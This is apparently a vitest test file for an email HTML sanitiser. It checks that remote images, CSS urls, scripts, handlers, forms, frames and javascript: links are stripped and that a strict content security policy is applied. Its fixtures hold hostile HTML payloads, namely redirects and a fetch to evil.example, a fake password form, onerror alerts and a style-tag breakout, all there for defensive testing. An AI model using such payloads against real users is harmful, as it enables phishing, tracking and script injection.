import DOMPurify from 'dompurify';
import { describe, expect, it } from 'vitest';
import { EMAIL_FRAME_POLICY, emailDocument, safeCss, sanitizeEmailHtml as sanitize } from './email-html';

const sanitizeEmailHtml = (html: string) => sanitize(html, DOMPurify);

/** Every address a sanitised mail could still load or open: none may be left. */
function remoteReferences(html: string): string[] {
  return html.match(/(https?:|\/\/)[^\s"')<]+/gi) ?? [];
}

/** Parses the sanitised body the way the frame will, for questions about its elements. */
function parsed(body: string): Document {
  return new DOMParser().parseFromString(`<body>${body}</body>`, 'text/html');
}

const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';

describe('sanitizeEmailHtml', () => {
  it('keeps the text of a receipt and its inline images', () => {
    const { body } = sanitizeEmailHtml(
      `<html><body><h1>Thanks for your order</h1><table><tr><td>Kettle</td><td>$49.00</td></tr></table><img alt="Logo" src="${PIXEL}"></body></html>`,
    );
    const doc = parsed(body);
    expect(doc.querySelector('h1')?.textContent).toBe('Thanks for your order');
    expect(doc.querySelector('td')?.textContent).toBe('Kettle');
    expect(doc.querySelector('img')?.getAttribute('src')).toBe(PIXEL);
  });

  it('loads no remote image: tracking pixels, srcset, cid references and table backgrounds lose their address', () => {
    const { body } = sanitizeEmailHtml(`
      <img src="https://tracker.example/open.gif?u=42" width="1" height="1" alt="">
      <img src="//cdn.example/logo.png" alt="Shop logo">
      <img srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x" alt="Banner">
      <img src="cid:logo@shop" alt="Inline logo">
      <picture><source srcset="https://cdn.example/c.webp"><img src="https://cdn.example/c.png" alt="Hero"></picture>
      <table background="https://cdn.example/bg.png"><tr><td background="https://cdn.example/td.png">Cell</td></tr></table>
      <video poster="https://cdn.example/poster.jpg" src="https://cdn.example/v.mp4"></video>
      <input type="image" src="https://cdn.example/button.png">`);
    expect(remoteReferences(body)).toEqual([]);
    expect(body).not.toContain('cid:');
    // The images stay with their text alternatives, so the mail still reads.
    expect([...parsed(body).querySelectorAll('img')].map((img) => img.alt)).toContain('Shop logo');
    expect(body).toContain('Cell');
  });

  it('drops remote CSS: url() in style attributes and sheets, @import, image-set and escaped urls', () => {
    const { body, styles } = sanitizeEmailHtml(`<html><head>
      <style>@import url("https://fonts.example/font.css"); @import 'https://x.example/y.css';
        .hero { background: url(https://cdn.example/hero.png) no-repeat; color: #123456 }
        .dot { background-image: url("${PIXEL}") }
        @font-face { font-family: Brand; src: url('https://fonts.example/brand.woff2') }</style>
      <style>.e { background: u\\72l(https://cdn.example/escaped.png) }</style>
      <link rel="stylesheet" href="https://cdn.example/mail.css"></head>
      <body><div class="hero" style="background-image: URL( 'https://cdn.example/inline.png' ); padding: 4px">Hello</div>
      <p style="background: image-set('https://cdn.example/set.png' 1x)">Set</p>
      <p style="list-style: url(https://cdn.example/bullet.png">Broken</p></body></html>`);
    expect(remoteReferences(body + styles.join(''))).toEqual([]);
    expect(styles.join('')).not.toMatch(/@import/i);
    // What was harmless stays: the colour, the padding, an inline data: image.
    expect(styles.join('')).toContain('color: #123456');
    expect(styles.join('')).toContain(PIXEL);
    expect(parsed(body).querySelector('div')?.getAttribute('style')).toContain('padding: 4px');
    // The sheet written with escapes is dropped whole.
    expect(styles.join('')).not.toContain('.e');
  });

  it('shows links as their text followed by the address, not clickable; javascript: links lose theirs', () => {
    const { body } = sanitizeEmailHtml(`
      <p><a href="https://shop.example/orders/42">Track your order</a></p>
      <p><a href="mailto:help@shop.example">help@shop.example</a></p>
      <p><a href="javascript:alert(1)">Claim your prize</a></p>
      <p><a href="https://shop.example/unsubscribe"><img src="https://cdn.example/u.png" alt="Unsubscribe"></a></p>`);
    const doc = parsed(body);
    expect(doc.querySelectorAll('a')).toHaveLength(0);
    expect(doc.querySelectorAll('[href]')).toHaveLength(0);
    expect(doc.body.textContent).toContain('Track your order (https://shop.example/orders/42)');
    expect(doc.body.textContent).toContain('help@shop.example');
    expect(doc.body.textContent).not.toContain('mailto:');
    expect(doc.body.textContent).toContain('Claim your prize');
    expect(body).not.toMatch(/javascript:/i);
  });

  it('removes scripts, handlers, forms, frames, <base> and <meta refresh>', () => {
    const { body, styles } = sanitizeEmailHtml(`<html><head>
      <base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">
      <script>document.location = 'https://evil.example/'</script></head>
      <body onload="fetch('https://evil.example/')"><p onclick="steal()">Order confirmed</p>
      <form action="https://evil.example/login" method="post"><p>Your password</p><input name="password" type="password"><button formaction="https://evil.example/">Sign in</button></form>
      <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object>
      <embed src="https://evil.example/e.swf"><svg><image href="https://evil.example/svg.png"/></svg>
      <img src="x" onerror="alert(1)"></body></html>`);
    const all = body + styles.join('');
    expect(all).not.toMatch(/<(script|form|input|button|iframe|object|embed|base|meta|svg)\b/i);
    expect(all).not.toMatch(/\bon[a-z]+=/i);
    expect(remoteReferences(all)).toEqual([]);
    expect(parsed(body).body.textContent).toContain('Order confirmed');
    expect(parsed(body).body.textContent).toContain('Your password');
  });

  it('keeps a style sheet from breaking out of its <style> element', () => {
    const { styles } = sanitizeEmailHtml('<style>p{color:red}</style ><style>b{}</STYLE><img src=x></style>');
    const doc = emailDocument({ styles, body: '' });
    expect(new DOMParser().parseFromString(doc, 'text/html').querySelectorAll('img')).toHaveLength(0);
  });
});

describe('safeCss', () => {
  it('keeps data: urls and plain declarations, replaces remote ones by none', () => {
    expect(safeCss(`color: red; background: url("${PIXEL}")`)).toBe(
      `color: red; background: url("${PIXEL}")`,
    );
    expect(safeCss('background: url(http://x.example/a.png) center')).toBe('background: none center');
  });

  it('refuses what it cannot read safely', () => {
    expect(safeCss('background: \\75rl(http://x.example/a.png)')).toBeNull();
    expect(safeCss("background: -webkit-image-set('http://x.example/a.png' 1x)")).toBeNull();
    expect(safeCss('background: url(http://x.example/(a).png)')).toBeNull();
  });
});

describe('emailDocument', () => {
  it('carries the frame policy that refuses anything remote', () => {
    const doc = new DOMParser().parseFromString(
      emailDocument({ styles: [], body: '<p>Hi</p>' }),
      'text/html',
    );
    expect(doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content')).toBe(
      EMAIL_FRAME_POLICY,
    );
    expect(EMAIL_FRAME_POLICY).toContain("default-src 'none'");
    expect(doc.body.innerHTML).toBe('<p>Hi</p>');
  });
});
